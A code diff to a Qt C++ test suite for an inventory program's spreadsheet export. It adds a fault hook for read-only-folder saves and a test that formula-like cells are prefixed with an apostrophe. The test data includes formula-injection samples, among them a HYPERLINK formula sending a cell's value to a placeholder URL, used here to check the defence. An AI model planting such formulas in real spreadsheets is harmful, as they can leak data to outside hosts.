@@ -8,6 +8,7 @@
 #include "catalogue/ProductRecord.h"
 #include "common/TempProgramFolder.h"
 #include "customers/CustomerRecord.h"
+#include "storage/Cp1252.h"
 #include "storage/Record.h"
 #include "storage/RecordFile.h"
 #include "suppliers/SupplierRecord.h"
@@ -271,6 +272,8 @@ private slots:
     void saveFailureLeavesPrevious();
     void readOnlyFolderKeepsPrevious();
 
+    void formulaTextStaysText_data();
+    void formulaTextStaysText();
     void cellNumber_data();
     void cellNumber();
     void xlsxReadBack();
@@ -701,7 +704,8 @@ void TestExportFiles::saveFailureLeavesPrevious()
 }
 
 // A program folder the user may not write: both saves fail and the earlier files stay as
-// they were. Root may write anywhere, so there the case cannot be made.
+// they were. Root may write anywhere: there the storage layer's fault hook refuses the new
+// file as such a folder does.
 void TestExportFiles::readOnlyFolderKeepsPrevious()
 {
     TempProgramFolder folder;
@@ -718,13 +722,16 @@ void TestExportFiles::readOnlyFolderKeepsPrevious()
     if (probe.open(QIODevice::WriteOnly)) {
         probe.close();
         probe.remove();
-        QFile::setPermissions(folder.path(), writable);
-        QSKIP("this user may write into a read-only folder");
+        RecordFile::setFaultHook([](RecordFile::IoStep step) {
+            return step == RecordFile::IoStep::ReplaceCommit ? RecordFile::IoFault::Fail
+                                                             : RecordFile::IoFault::None;
+        });
     }
     const ExportGrid grid = ExportGrid::fromRecords(Export::exporter(Kind::Products),
         { product({ { ProductRecord::Codice, QStringLiteral("A") } }) });
     const bool xls = SpreadsheetHtml::save(dir.filePath(QStringLiteral("Magazzino.xls")), grid);
     const bool xlsx = SpreadsheetXlsx::save(dir.filePath(QStringLiteral("Magazzino.xlsx")), grid);
+    RecordFile::setFaultHook({});
     QFile::setPermissions(folder.path(), writable);
     QVERIFY(!xls);
     QVERIFY(!xlsx);
@@ -732,6 +739,49 @@ void TestExportFiles::readOnlyFolderKeepsPrevious()
     QCOMPARE(folder.readAll(QStringLiteral("Magazzino.xlsx")), QByteArray("previous"));
     QCOMPARE(dir.entryList(QDir::Files | QDir::Hidden),
         (QStringList { QStringLiteral("Magazzino.xls"), QStringLiteral("Magazzino.xlsx") }));
+}
+
+// A cell a spreadsheet program would take for a formula gets the apostrophe that keeps
+// it text, stored or edited; numbers, signed amounts among them, stay as they are.
+void TestExportFiles::formulaTextStaysText_data()
+{
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<bool>("marked");
+    QTest::newRow("formula") << QStringLiteral("=1+1") << true;
+    QTest::newRow("link formula") << QStringLiteral("=HYPERLINK(\"http://x\"&A3;\"Apri\")")
+                                  << true;
+    QTest::newRow("at sign") << QStringLiteral("@SUM(A1)") << true;
+    QTest::newRow("plus text") << QStringLiteral("+A1") << true;
+    QTest::newRow("minus text") << QStringLiteral("-A1*2") << true;
+    QTest::newRow("negative amount") << QStringLiteral("-12,50") << false;
+    QTest::newRow("signed count") << QStringLiteral("+5") << false;
+    QTest::newRow("a lone dash") << QStringLiteral("-") << false;
+    QTest::newRow("equals inside") << QStringLiteral("A=B") << false;
+    QTest::newRow("plain text") << QStringLiteral("Pirelli") << false;
+}
+
+void TestExportFiles::formulaTextStaysText()
+{
+    QFETCH(QString, text);
+    QFETCH(bool, marked);
+    QCOMPARE(SpreadsheetHtml::needsTextMark(Cp1252::encode(text)), marked);
+    QByteArray cell = Cp1252::encode(text)
+                          .replace('&', "&amp;")
+                          .replace('<', "&lt;")
+                          .replace('>', "&gt;");
+    if (marked)
+        cell.prepend('\'');
+    const QByteArray opening = "<td style=\"text-align: left;\">";
+    // Stored in the archive.
+    const ExportGrid stored = ExportGrid::fromRecords(Export::exporter(Kind::Products),
+        { product({ { ProductRecord::Codice, QStringLiteral("A") },
+            { ProductRecord::Tipologia, text } }) });
+    QVERIFY(SpreadsheetHtml::text(stored).contains(opening + cell + "</td>"));
+    // Typed into an editable column of the grid.
+    ExportGrid typed = ExportGrid::fromRecords(Export::exporter(Kind::Products),
+        { product({ { ProductRecord::Codice, QStringLiteral("A") } }) });
+    typed.setText(0, 5, text);
+    QVERIFY(SpreadsheetHtml::text(typed).contains(opening + cell + "</td>"));
 }
 
 void TestExportFiles::cellNumber_data()
